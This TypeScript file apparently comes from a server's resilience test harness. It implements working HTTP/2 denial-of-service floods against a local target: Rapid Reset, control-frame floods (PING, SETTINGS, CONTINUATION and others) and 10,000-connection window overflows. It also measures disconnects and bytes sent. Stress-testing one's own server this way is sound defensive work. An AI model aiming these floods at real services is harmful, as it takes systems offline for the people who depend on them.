/**
 * Attacks that use what HTTP/2 offers: calls that are reset as soon as they are made, frames that cost the sender nothing, windows
 * that overflow. Each connection sends as fast as the server reads; one that was cut comes back, up to a bound.
 */
import { setTimeout as delay } from "node:timers/promises";
import { systemClock } from "../clock.ts";
import {
  clientOpening,
  FrameFlag,
  FrameReader,
  FrameType,
  headerBlock,
  http2Frame,
  postBlock,
  resetStream,
  settingsAck,
  windowUpdate,
} from "../testing/http2-frames.ts";
import { type Attack, AttackConnection, type AttackTarget, holdUntilEnd, openAtRate, takeAddresses } from "./attack.ts";

const RESET_CONNECTIONS = 200;
const RESETS_PER_WRITE = 250;
const FRAMES_PER_WRITE = 500;
/** How long a connection that was cut stays away. */
const RETURN_MS = 250;
const OVERFLOWS = 10_000;
const OVERFLOWS_PER_SECOND = 2_500;
const PER_ADDRESS = 250;
const CANCEL = 8;
const MAX_WINDOW = 0x7fff_ffff;
/** What the kernels hold of a cut connection is not the server's concern: GOAWAY counts, else the end of the connection. */
const CUT_PATIENCE_MS = 2_000;

/** One connection at a time. */
export const rapidReset: Attack = async (target) => {
  return floodFacts(await keepFlooding(target, takeAddresses(1)[0]!, resets(target)), "");
};

/** 200 connections of one address, at once. */
export const rapidReset200: Attack = async (target) => {
  const [address] = takeAddresses(1);
  const floods = Array.from({ length: RESET_CONNECTIONS }, () => keepFlooding(target, address!, resets(target)));
  return floodFacts((await Promise.all(floods)).flat(), "");
};

/** Each kind of frame that is free to send, on a connection of its own. */
export const controlFrames: Attack = async (target) => {
  const kinds = Object.entries(controlFloods).map(async ([name, flood]) => {
    return floodFacts(await keepFlooding(target, takeAddresses(1)[0]!, flood(target)), name);
  });
  return Object.assign({}, ...(await Promise.all(kinds)));
};

/** 10,000 connections, each of which overflows the window of the whole connection. */
export const windowOverflow: Attack = async (target) => {
  const bytes = Buffer.concat([clientOpening(), windowUpdate(0, MAX_WINDOW), windowUpdate(0, MAX_WINDOW)]);
  const startedAt = systemClock.monotonic();
  const addresses = takeAddresses(OVERFLOWS / PER_ADDRESS);
  const connections = await openAtRate(OVERFLOWS, OVERFLOWS_PER_SECOND, (index) => {
    const connection = new AttackConnection(target.port, addresses[Math.floor(index / PER_ADDRESS)]!);
    connection.socket.resume().end(bytes);
    return connection;
  });
  await holdUntilEnd(connections, startedAt, { durationMs: 0, patienceMs: CUT_PATIENCE_MS });
  const stillOpen = connections.filter(({ isOver }) => !isOver).length;
  return { overflows: connections.length, stillOpen, openedMs: systemClock.monotonic() - startedAt };
};

/** One flooded connection, from its first frame to GOAWAY or its end. */
interface FloodRun {
  cutMs: number | undefined;
  writtenBytes: number;
}

/** Floods until the time is over, coming back after each cut. */
async function keepFlooding(
  target: AttackTarget,
  localAddress: string,
  flood: () => () => Buffer,
): Promise<FloodRun[]> {
  const endsAt = systemClock.monotonic() + target.durationMs;
  const runs: FloodRun[] = [];
  while (systemClock.monotonic() < endsAt) {
    runs.push(await floodOnce(target.port, localAddress, flood(), endsAt));
    await delay(RETURN_MS);
  }
  return runs;
}

async function floodOnce(port: number, localAddress: string, next: () => Buffer, endsAt: number): Promise<FloodRun> {
  const connection = new AttackConnection(port, localAddress);
  const { socket } = connection;
  const over = new AbortController();
  const onFrame = (type: number) => {
    if (type !== FrameType.goAway) return;
    connection.noteEnd();
    over.abort();
  };
  const reader = new FrameReader(onFrame);
  socket.on("data", (chunk) => reader.push(chunk));
  void connection.closed.then(() => over.abort());
  socket.write(Buffer.concat([clientOpening(), settingsAck]));
  const write = () => {
    while (!over.signal.aborted && socket.write(next()));
  };
  socket.on("drain", write);
  socket.once("connect", write);
  const leftMs = Math.max(1, endsAt - systemClock.monotonic());
  await delay(leftMs, undefined, { signal: over.signal }).catch(() => {});
  over.abort();
  connection.giveUp();
  return { cutMs: connection.lifeMs, writtenBytes: socket.bytesWritten };
}

function resets({ port, openPath }: AttackTarget): () => () => Buffer {
  const block = postBlock(`127.0.0.1:${port}`, openPath, [["content-type", "application/grpc+proto"]]);
  return () => {
    let streamId = -1;
    return () =>
      Buffer.concat(
        Array.from({ length: RESETS_PER_WRITE }, () => {
          streamId += 2;
          return [http2Frame(FrameType.headers, FrameFlag.endHeaders, streamId, block), resetStream(streamId, CANCEL)];
        }).flat(),
      );
  };
}

/** The same frame again and again, after what opens the way for it. */
function repeating(frame: Buffer, before: Buffer = Buffer.alloc(0)): () => () => Buffer {
  const bytes = Buffer.concat(Array.from({ length: FRAMES_PER_WRITE }, () => frame));
  return () => {
    let first = before.length > 0;
    return () => {
      const next = first ? Buffer.concat([before, bytes]) : bytes;
      first = false;
      return next;
    };
  };
}

const controlFloods: Record<string, (target: AttackTarget) => () => () => Buffer> = {
  ping: () => repeating(http2Frame(FrameType.ping, 0, 0, Buffer.alloc(8))),
  settings: () => repeating(http2Frame(FrameType.settings, 0, 0)),
  priority: () => repeating(http2Frame(FrameType.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16]))),
  windowUpdate: () => repeating(windowUpdate(0, 1)),
  emptyData: ({ port, openPath }) => {
    const block = postBlock(`127.0.0.1:${port}`, openPath, [["content-type", "application/grpc+proto"]]);
    return repeating(http2Frame(FrameType.data, 0, 1), http2Frame(FrameType.headers, FrameFlag.endHeaders, 1, block));
  },
  continuation: ({ port, openPath }) => {
    const block = postBlock(`127.0.0.1:${port}`, openPath, [["content-type", "application/grpc+proto"]]);
    const more = headerBlock([["x-more", "v".repeat(100)]]);
    return repeating(http2Frame(FrameType.continuation, 0, 1, more), http2Frame(FrameType.headers, 0, 1, block));
  },
};

function floodFacts(runs: FloodRun[], kind: string): Record<string, number> {
  const named = (what: string) => (kind === "" ? what : `${kind}${what[0]!.toUpperCase()}${what.slice(1)}`);
  const slowest = runs.reduce((longest, { cutMs }) => Math.max(longest, cutMs ?? 0), 0);
  const cuts = runs.filter(({ cutMs }) => cutMs !== undefined).length;
  const megabytes = runs.reduce((sum, { writtenBytes }) => sum + writtenBytes, 0) / 1_000_000;
  return {
    [named("connections")]: runs.length,
    [named("cuts")]: cuts,
    [named("slowestCutMs")]: slowest,
    [named("megabytes")]: megabytes,
  };
}
